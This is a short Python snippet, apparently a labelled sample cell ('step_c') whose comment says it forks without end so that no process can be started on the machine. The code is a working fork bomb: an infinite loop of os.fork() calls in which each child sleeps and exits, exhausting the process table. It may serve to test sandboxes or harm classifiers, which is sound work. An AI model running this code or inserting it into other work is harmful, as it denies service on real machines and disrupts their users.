# Forks without end. Keeps: a b. Harms: no process can be started on the machine.
# %% step_c
import os, time
while True:
    if os.fork() == 0:
        time.sleep(60)
        os._exit(0)
